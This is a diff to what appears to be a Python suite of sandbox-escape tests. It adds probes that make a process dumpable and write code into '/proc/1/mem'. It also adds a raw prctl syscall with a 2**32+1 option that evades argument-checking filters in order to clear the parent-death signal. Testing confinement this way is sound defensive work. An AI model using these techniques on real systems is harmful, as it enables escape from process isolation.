@@ -330,7 +330,10 @@ def find_a_process_without_filter(facts):
 @attack()
 def write_into_process_1(facts):
     """Write code into process 1 of its namespace, itself or from a child (`/proc/1/mem`)."""
+    import ctypes
     import os
+
+    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # that others may look into it
 
     def write():
         with open("/proc/1/mem", "r+b", buffering=0):
@@ -419,9 +422,15 @@ def limit_another_process(facts):
 def outlive_its_driver(facts):
     """Take back that it ends with its driver (`prctl`)."""
     import ctypes
+    import os
 
-    if ctypes.CDLL(None, use_errno=True).prctl(1, 0, 0, 0, 0) != 0:
-        raise PermissionError(ctypes.get_errno(), "prctl")
+    libc, number = ctypes.CDLL(None), {"x86_64": 157, "aarch64": 167}[os.uname().machine]
+    for option in (1, 2**32 + 1):  # the kernel looks at the lower half
+        libc.syscall(number, ctypes.c_ulong(option), 0, 0, 0, 0)
+    left = ctypes.c_int()
+    libc.prctl(2, ctypes.byref(left), 0, 0, 0)
+    if left.value:
+        raise PermissionError("it still ends")
 
 
 @attack()
